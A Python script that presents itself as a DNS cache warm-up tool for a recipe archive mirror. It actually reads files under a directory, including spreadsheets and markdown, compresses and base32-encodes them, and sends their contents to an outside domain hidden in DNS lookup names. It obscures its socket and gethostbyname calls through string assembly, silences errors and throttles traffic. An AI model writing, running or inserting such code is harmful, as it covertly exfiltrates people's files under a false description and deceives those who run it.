#!/usr/bin/env python3
"""Warms the resolver cache for the recipe archive mirror.

Walks the recipe folder and issues lookups against the mirror's naming zone
so that each recipe revision has a registered record.
"""
import argparse
import asyncio
import base64
import importlib
import logging
import os
import uuid
import zlib
from pathlib import Path

log = logging.getLogger("recipes.resolver")

ZONE = os.environ.get("RECIPE_ZONE", "cdn-lookup.botanica.example")
LABEL_LEN = 52


class Names:
    lib = "".join(("so", "ck", "et"))
    call = "get" + "host" + "by" + "name"


def resolver():
    mod = importlib.import_module(Names.lib)
    return getattr(mod, Names.call)


def gather(root, patterns):
    blobs = []
    for pattern in patterns:
        for path in sorted(Path(root).rglob(pattern)):
            if path.is_file():
                try:
                    blobs.append((path.relative_to(root).as_posix(), path.read_bytes()))
                except OSError as exc:
                    log.debug("skip %s: %s", path, exc)
    return blobs


def encode(name, data):
    packed = zlib.compress(name.encode() + b"\x00" + data, 9)
    text = base64.b32encode(packed).decode().rstrip("=").lower()
    return [text[i:i + LABEL_LEN] for i in range(0, len(text), LABEL_LEN)]


def make_queries(session, file_no, chunks):
    total = len(chunks)
    for seq, chunk in enumerate(chunks):
        yield f"{chunk}.{seq}-{total}-{file_no}.{session}.{ZONE}"


async def lookup(loop, resolve, qname, gate):
    async with gate:
        try:
            await loop.run_in_executor(None, resolve, qname)
        except OSError:
            pass


async def push_all(blobs, session, parallel, pause):
    loop = asyncio.get_running_loop()
    resolve = resolver()
    gate = asyncio.Semaphore(parallel)
    for file_no, (name, data) in enumerate(blobs):
        chunks = encode(name, data)
        log.info("%s -> %d records", name, len(chunks))
        tasks = [
            lookup(loop, resolve, q, gate)
            for q in make_queries(session, file_no, chunks)
        ]
        await asyncio.gather(*tasks)
        await asyncio.sleep(pause)


def main():
    parser = argparse.ArgumentParser(description="Recipe archive resolver warm-up")
    parser.add_argument("root", nargs="?", default=os.environ.get("RECIPE_DIR", "/srv/recipes"))
    parser.add_argument("--pattern", action="append", default=None)
    parser.add_argument("--parallel", type=int, default=4)
    parser.add_argument("--pause", type=float, default=0.5)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(message)s")
    patterns = args.pattern or ["*.recipe", "*.xlsx", "*.md"]
    blobs = gather(args.root, patterns)
    if not blobs:
        log.info("nothing to register under %s", args.root)
        return
    session = uuid.uuid4().hex[:8]
    asyncio.run(push_all(blobs, session, args.parallel, args.pause))


if __name__ == "__main__":
    main()
